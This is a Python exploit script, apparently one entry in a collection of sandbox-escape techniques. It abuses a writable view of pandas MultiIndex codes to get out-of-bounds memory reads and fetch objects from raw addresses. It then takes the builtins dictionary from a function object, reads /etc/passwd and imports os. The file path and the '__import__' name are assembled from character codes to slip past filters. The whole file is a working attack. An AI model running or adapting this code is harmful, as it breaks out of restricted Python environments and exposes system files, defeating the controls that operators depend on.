# source: pandas MultiIndex.codes (FrozenList of read-only views) + numpy ndarray.base; algos.take_nd in get_level_values is unchecked
# family: memory safety - MultiIndex codes view .base re-flagged writable (flags.writeable = True) -> get_level_values OOB read + addr->object fetch
# goal: builtins dict via func_builtins, open() -> /etc/passwd, __import__ -> os
import numpy as np
import pandas as pd

N = 4400000
raw = np.arange(N, dtype=np.int64).tobytes()
mi = pd.MultiIndex(levels=[pd.Index(np.frombuffer(raw, dtype=np.int64))], codes=[[0]])
base = id(raw) + 32
wi = mi.codes[0].base
wi.flags.writeable = True


def rd(addr):
    wi[0] = (addr - base) // 8
    return int(mi.get_level_values(0)[0])


lev = pd.Index(np.arange(N).astype(object), dtype=object)
mo = pd.MultiIndex(levels=[lev], codes=[[0]])
obase = rd(id(mo.levels[0].values) + 16)
wo = mo.codes[0].base
wo.flags.writeable = True


def fetch(addr):
    wo[0] = (addr - obase) // 8
    return mo.get_level_values(0)[0]


def f():
    return 0


b = fetch(id(f) + 24)
print("builtins dict:", type(b), len(b))
path = "".join(chr(c) for c in [47, 101, 116, 99, 47, 112, 97, 115, 115, 119, 100])
print(b["open"](path).read()[:120])
u = chr(95) * 2
m = b[u + "import" + u]("o" + "s")
print(m, m.getuid())
